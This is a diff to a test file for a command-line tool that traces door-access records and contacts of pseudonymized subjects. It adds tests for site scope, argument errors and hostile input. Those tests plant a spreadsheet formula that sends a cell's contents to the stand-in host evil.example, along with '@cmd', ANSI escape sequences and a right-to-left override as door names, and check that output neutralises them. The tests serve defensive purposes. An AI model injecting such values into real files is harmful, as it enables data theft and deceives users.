@@ -3,7 +3,7 @@
  * oracle, on SQLite and PostgreSQL; output forms; the picture; pseudonymized subjects; argument errors.
  */
 import { spawn } from "node:child_process";
-import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join, resolve } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
@@ -87,6 +87,21 @@ describe.each([
     const b = await trace(["--db", db(), "--site", d.site, "--device", d.device, "--door", d.door, "--from", from, "--to", to, "--json"]);
     expect(JSON.parse(a.out)).toEqual(oracle.door(data.entries, d, f));
     expect(b.out).toBe(a.out);
+  });
+
+  it("--door D --site S counts every reader of the door", async () => {
+    const r = await trace(["--db", db(), "--door", "main", "--site", "market-1", "--from", from, "--to", to, "--json"]);
+    expect(r.code).toBe(0);
+    const got = JSON.parse(r.out) as { device: string }[];
+    expect(got).toEqual(oracle.siteDoor(data.entries, { site: "market-1", door: "main" }, f));
+    expect(new Set(got.map((e) => e.device))).toEqual(new Set(["gate-1", "gate-2"]));
+  });
+
+  it("--contacts --scope site counts any door of the site", async () => {
+    const s = data.subjects[1]!;
+    const r = await trace(["--db", db(), "--contacts", s, "--window", "5m", "--scope", "site", "--from", from, "--to", to, "--json"]);
+    expect(r.code).toBe(0);
+    expect(JSON.parse(r.out)).toEqual(oracle.contacts(data.entries, s, 5 * 60_000, { ...f, scope: "site" }));
   });
 
   it("--site", async () => {
@@ -202,12 +217,14 @@ describe("arguments", () => {
     [["--subject", "1", "--contacts", "2", "--from", "2021-08-01", "--to", "2021-08-02"], "one question at a time"],
     [["--contacts", "1", "--from", "2021-08-01", "--to", "2021-08-02"], "--window"],
     [["--contacts", "1", "--window", "soon", "--from", "2021-08-01", "--to", "2021-08-02"], "not a duration"],
-    [["--door", "main", "--from", "2021-08-01", "--to", "2021-08-02"], "a door is SITE/DEVICE/DOOR"],
+    [["--door", "main", "--from", "2021-08-01", "--to", "2021-08-02"], "a door is --door D --site S"],
     [["--site", "x", "--from", "2021-08-02", "--to", "2021-08-01"], "--to must be after --from"],
     [["--site", "x", "--from", "tomorrow", "--to", "2021-08-01"], "is not a time"],
     [["--site", "x", "--from", "2021-08-01", "--to", "2021-08-02", "--tz", "Mars/Olympus"], "unknown time zone"],
     [["--site", "x", "--from", "2021-08-01", "--to", "2021-08-02", "--html", "x.html"], "use them with --contacts"],
     [["--site", "x", "--from", "2021-08-01", "--to", "2021-08-02", "--bogus"], "Unknown option"],
+    [["--contacts", "1", "--window", "5m", "--scope", "city", "--from", "2021-08-01", "--to", "2021-08-02"], "expected door or site"],
+    [["--site", "x", "--scope", "site", "--from", "2021-08-01", "--to", "2021-08-02"], "--scope goes with --contacts"],
     [["--db", "/nonexistent/centre.db", "--site", "x", "--from", "2021-08-01", "--to", "2021-08-02"], "cannot open"],
   ])("%j -> one line, exit 2", async (args, message) => {
     const r = await trace(["--db", sqliteFile, ...args]);
@@ -228,5 +245,95 @@ describe("arguments", () => {
     const r = await trace(["--db", sqliteFile, "--contacts", subjectId(999), "--window", "15m", "--from", from, "--to", to]);
     expect(r.code).toBe(0);
     expect(r.out).toContain("(no contacts)");
+  });
+});
+
+describe("hostile names and big answers", () => {
+  const odd = join(dir, "odd.db");
+  const big = join(dir, "big.db");
+  const T0 = Date.parse("2021-08-01T02:00:00.000Z");
+  const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+
+  beforeAll(async () => {
+    const s = new SqliteEntryStore(odd);
+    await s.migrate();
+    await s.insertEntries([makeEntry({ tsMs: T0, site: "odd", door: formula }), makeEntry({ tsMs: T0 + 1, site: "odd", door: "@cmd" })]);
+    // A database written before the collector refused control characters: rows as they were stored then.
+    const raw = s.database.prepare(
+      `INSERT INTO entries (id, ts_ms, site, device, door, decision, reason, kind, subject, latency_ms, status_version, stale, received_ms)
+       VALUES (?, ?, 'odd', 'gate-1', ?, 'allow', 'ok', 'cccd', ?, 1, 1, 0, 0)`,
+    );
+    raw.run(makeEntry().id, T0 + 2, "\u001b[2J\u001b[31mmain", subjectId(1));
+    raw.run(makeEntry().id, T0 + 3, "exit\u202etixe", subjectId(2));
+    await s.close();
+
+    const b = new SqliteEntryStore(big);
+    await b.migrate();
+    const insert = b.database.prepare(
+      `INSERT INTO entries (id, ts_ms, site, device, door, decision, reason, kind, subject, latency_ms, status_version, stale, received_ms)
+       VALUES (?, ?, 'big', 'gate-1', 'main', 'allow', 'ok', 'cccd', ?, 1, 1, 0, 0)`,
+    );
+    b.database.transaction(() => {
+      for (let i = 0; i < 130_000; i++) insert.run(makeEntry().id, T0 + i * 10, subjectId(i % 99_999));
+    })();
+    await b.close();
+  });
+
+  const range = ["--from", "2021-08-01T00:00:00Z", "--to", "2021-08-02T00:00:00Z"];
+
+  it("neutralises spreadsheet formulas in --csv", async () => {
+    const r = await trace(["--db", odd, "--site", "odd", ...range, "--csv"]);
+    expect(r.code).toBe(0);
+    expect(r.out).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
+    expect(r.out).toContain(",'@cmd,");
+    expect(r.out).not.toMatch(/,=HYPERLINK|,"=HYPERLINK|,@cmd/);
+  });
+
+  it("prints ANSI escapes and right-to-left overrides escaped in the table and the JSON", async () => {
+    const table = await trace(["--db", odd, "--site", "odd", ...range]);
+    expect(table.code).toBe(0);
+    expect(table.out).toContain("\\u001b[2J\\u001b[31mmain");
+    expect(table.out).toContain("exit\\u202etixe");
+    const json = await trace(["--db", odd, "--site", "odd", ...range, "--json"]);
+    for (const out of [table.out, json.out]) {
+      expect(out).not.toContain("\u001b");
+      expect(out).not.toContain("\u202e");
+    }
+    expect((JSON.parse(json.out) as { door: string }[]).map((e) => e.door)).toContain("exit\u202etixe");
+  });
+
+  it("writes --out, --html and --svg files readable by their owner only, also over a wider existing file", async () => {
+    const out = join(dir, "answer.csv");
+    const html = join(dir, "contacts.html");
+    const svg = join(dir, "contacts.svg");
+    writeFileSync(out, "old", { mode: 0o644 });
+    const a = await trace(["--db", odd, "--site", "odd", ...range, "--csv", "--out", out]);
+    const b = await trace(["--db", odd, "--contacts", subjectId(1), "--window", "15m", ...range, "--html", html, "--svg", svg]);
+    expect([a.code, b.code]).toEqual([0, 0]);
+    expect(a.out).toBe("");
+    expect(readFileSync(out, "utf8")).toContain("'@cmd");
+    for (const f of [out, html, svg]) expect(statSync(f).mode & 0o777).toBe(0o600);
+  });
+
+  it("prints a table of 130,000 passages", async () => {
+    const r = await trace(["--db", big, "--site", "big", ...range]);
+    expect(r.err).toBe("");
+    expect(r.code).toBe(0);
+    const lines = r.out.trimEnd().split("\n");
+    expect(lines).toHaveLength(130_003);
+    expect(lines.at(-1)).toBe("130000 passages");
+  }, 60_000);
+
+  it.each([
+    [["--site", "odd", "--out", "/nonexistent-dir/a.csv"], "does not exist"],
+    [["--contacts", "001099000001", "--window", "5m", "--html", "/nonexistent-dir/a.html"], "does not exist"],
+    [["--site", "odd", "--out", "/"], "is a folder"],
+    [["--site", "o\u001b[31md"], "\\u001b"],
+  ])("refuses an unusable output path or a bad name with one line and exit 2: %j", async (args, message) => {
+    const r = await trace(["--db", odd, ...range, ...args]);
+    expect(r.code).toBe(2);
+    expect(r.err.trim().split("\n")).toHaveLength(1);
+    expect(r.err).toContain(message);
+    expect(r.err).not.toContain("\u001b");
   });
 });
